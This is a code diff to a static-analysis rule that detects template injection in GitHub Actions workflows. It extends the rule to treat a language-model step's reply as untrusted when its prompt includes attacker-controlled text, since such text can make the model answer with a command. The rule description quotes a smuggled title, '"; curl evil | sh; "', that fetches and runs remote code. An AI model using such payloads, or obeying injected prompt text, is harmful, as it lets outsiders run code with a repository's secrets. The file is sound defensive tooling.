@@ -33,6 +33,16 @@ const OUTPUT_WRITE = [
 ];
 
 /**
+ * Actions that send a prompt to a language model and return its reply as a step output, by action
+ * repository (lower case): the prompt inputs, then the output holding the reply (from each action's
+ * action.yml). A prompt that includes attacker-controlled text lets that text steer the reply
+ * (prompt injection), so the reply is as untrusted as the text itself.
+ */
+const MODEL_ACTIONS: ReadonlyMap<string, { prompts: readonly string[]; reply: string }> = new Map([
+  ['actions/ai-inference', { prompts: ['prompt', 'system-prompt'], reply: 'response' }],
+]);
+
+/**
  * The step outputs of a job that hold attacker-controlled text as it came (`steps.ID.outputs.NAME`
  * → context), from steps before `before`: written by a bash script straight from an `env:` variable
  * bound to such a context, or from the context itself. A value passed through any command or
@@ -40,14 +50,28 @@ const OUTPUT_WRITE = [
  * only where the script runs in bash or sh: an explicit `shell:`, or no `shell:` on a job whose
  * runners are not Windows (where the default shell is PowerShell).
  */
-function untrustedOutputs(text: string, wf: Workflow, job: Job): Map<string, { source: string; step: number }> {
-  const out = new Map<string, { source: string; step: number }>();
+function untrustedOutputs(text: string, wf: Workflow, job: Job): Map<string, { source: string; step: number; model?: true }> {
+  const out = new Map<string, { source: string; step: number; model?: true }>();
   const all = steps(job);
   const labels = runnerLabels(job)?.labels ?? [];
   const jobShell = str(get(get(get(job.node, 'defaults'), 'run'), 'shell')) ?? str(get(get(get(wf.root, 'defaults'), 'run'), 'shell'));
   all.forEach((step, index) => {
     const id = str(get(step, 'id'))?.trim();
     const run = get(step, 'run');
+    const model = MODEL_ACTIONS.get(actionRepo(usesOf(step) ?? '') ?? '');
+    const withs = get(step, 'with');
+    if (id && model && isMap(withs)) {
+      const events = stepEvents(wf, job, step);
+      const env = envLookup(text, wf, job, step, events);
+      for (const e of withs.entries) {
+        if (!model.prompts.includes(String(e.key.value).toLowerCase()) || str(e.value) === undefined) continue;
+        const source = expressionsIn(text, e.value).map((ex) => untrustedRefs(ex.body, env, events, stepFixed(wf, job, step))[0]).find(Boolean);
+        if (source) {
+          out.set(`${id}.${model.reply}`.toLowerCase(), { source: source.replace(/^\S+ \(= (.+)\)$/, '$1'), step: index, model: true });
+          break;
+        }
+      }
+    }
     if (!id || !run) return;
     const shell = (str(get(step, 'shell')) ?? jobShell)?.trim().toLowerCase();
     const posix = shell ? /^(bash|sh)\b/.test(shell) : labels.length > 0 && !labels.some((l) => l.includes('windows') || l.includes('${{'));
@@ -67,7 +91,7 @@ function untrustedOutputs(text: string, wf: Workflow, job: Job): Map<string, { s
 }
 
 /** `env`, with the outputs of the job's earlier steps (than `step`) that hold untrusted text. */
-function withOutputs(env: EnvLookup, outputs: Map<string, { source: string; step: number }>, step: number): EnvLookup {
+function withOutputs(env: EnvLookup, outputs: Map<string, { source: string; step: number; model?: true }>, step: number): EnvLookup {
   return (path) => {
     const m = /^steps\.([\w-]+)\.outputs\.([\w-]+)$/i.exec(path);
     if (!m) return env(path);
@@ -82,7 +106,7 @@ const rule: Rule = {
     id: 'iac/gha-template-injection',
     title: 'Untrusted input expanded into a workflow script',
     description:
-      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`, unless text around its `${{ }}` makes that condition always true): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event. The previous title or body of an `edited` event (`github.event.changes.title.from`, `.body.from`) and the fork\'s repository fields (`head.repo.description`, `head.repo.homepage`) count as attacker-controlled. A `workflow_run` trigger whose `branches:` filter names only literal branches (`[main, release-2.x]`, no glob or `branches-ignore`) pins `github.event.workflow_run.head_branch` to one of those names, so it is not reported there. Nor is the text of an event object whose author a job or step `if:` pins (with `&&`, no `||` or negation): `github.event.pull_request.user.login == \'release-bot\'` (the pull request\'s fields and `github.head_ref`), or `github.event.comment.author_association == \'MEMBER\'` and `contains(fromJSON(\'["OWNER","MEMBER"]\'), …)` over OWNER, MEMBER and COLLABORATOR only; other objects of the same event (a comment on a pull request whose author is checked) still count. A step output that an earlier step of the job wrote unchanged from such a context (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"` in bash, with `TITLE: ${{ github.event.pull_request.title }}` in its `env:`, or the context itself) carries it to a later `${{ steps.ID.outputs.title }}`; an output passed through any command or parameter expansion first may have been cleaned and is not followed. A composite action\'s steps (`runs.using: composite` in an `action.yml`) are checked the same way: the action runs on whatever event its caller\'s workflow has, so every attacker-controlled context counts, as in a reusable workflow; its own `inputs.*` are for the calling workflow to keep clean, as a reusable workflow\'s are, and are not reported.',
+      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`, unless text around its `${{ }}` makes that condition always true): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event. The previous title or body of an `edited` event (`github.event.changes.title.from`, `.body.from`) and the fork\'s repository fields (`head.repo.description`, `head.repo.homepage`) count as attacker-controlled. A `workflow_run` trigger whose `branches:` filter names only literal branches (`[main, release-2.x]`, no glob or `branches-ignore`) pins `github.event.workflow_run.head_branch` to one of those names, so it is not reported there. Nor is the text of an event object whose author a job or step `if:` pins (with `&&`, no `||` or negation): `github.event.pull_request.user.login == \'release-bot\'` (the pull request\'s fields and `github.head_ref`), or `github.event.comment.author_association == \'MEMBER\'` and `contains(fromJSON(\'["OWNER","MEMBER"]\'), …)` over OWNER, MEMBER and COLLABORATOR only; other objects of the same event (a comment on a pull request whose author is checked) still count. A step output that an earlier step of the job wrote unchanged from such a context (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"` in bash, with `TITLE: ${{ github.event.pull_request.title }}` in its `env:`, or the context itself) carries it to a later `${{ steps.ID.outputs.title }}`; an output passed through any command or parameter expansion first may have been cleaned and is not followed. The reply of a language-model step (`actions/ai-inference` `response`) whose `prompt` or `system-prompt` includes such a context counts too: the text can instruct the model to answer with a command. A composite action\'s steps (`runs.using: composite` in an `action.yml`) are checked the same way: the action runs on whatever event its caller\'s workflow has, so every attacker-controlled context counts, as in a reusable workflow; its own `inputs.*` are for the calling workflow to keep clean, as a reusable workflow\'s are, and are not reported.',
     severity: 'high',
     kinds: ['github-workflow', 'github-action'],
     messages: {
@@ -91,6 +115,8 @@ const rule: Rule = {
       script: '`{{expression}}` expands attacker-controlled `{{context}}` into the `actions/github-script` code (code injection); pass it through `env:` and read `process.env.VALUE` instead.',
       output:
         '`{{expression}}` expands `{{variable}}`, a step output an earlier step wrote straight from attacker-controlled `{{context}}`, into the script (code injection); pass it through `env:` (`env: VALUE: ${{ {{variable}} }}`) and read it as a quoted shell variable.',
+      model:
+        '`{{expression}}` expands `{{variable}}`, the reply of a language model whose prompt includes attacker-controlled `{{context}}` (a crafted text can make it reply with any command), into the script (code injection); pass it through `env:` (`env: VALUE: ${{ {{variable}} }}`) and read it as a quoted shell variable.',
       matrix: '`{{expression}}` expands `{{variable}}`, a matrix value built from attacker-controlled `{{context}}`, into the script (code injection); pass it through `env:` and read it as a quoted shell variable, or build the matrix from trusted values.',
       input: '`{{expression}}` expands attacker-controlled `{{context}}` into the `{{input}}` input of `{{action}}`, which runs it as code (code injection); pass it through `env:` and read the variable inside the command instead.',
     },
@@ -135,8 +161,9 @@ const rule: Rule = {
             if (!bad.length) continue;
             const expression = text.slice(ex.start, ex.end).replace(/\s+/g, ' ');
             const via = /^((env|matrix|steps)\.\S+) \(= (.+)\)$/.exec(bad[0]);
+            const model = via?.[2] === 'steps' && outputs.get(via[1].replace(/^steps\.([\w-]+)\.outputs\.([\w-]+)$/i, '$1.$2').toLowerCase())?.model;
             ctx.report({
-              messageId: via ? (via[2] === 'steps' ? 'output' : via[2]) : t.messageId,
+              messageId: via ? (via[2] === 'steps' ? (model ? 'model' : 'output') : via[2]) : t.messageId,
               offsets: [ex.start, ex.end],
               data: via ? { expression, variable: via[1], context: via[3] } : { expression, context: bad[0], ...(t.input ? { input: t.input, action: t.action! } : {}) },
             });
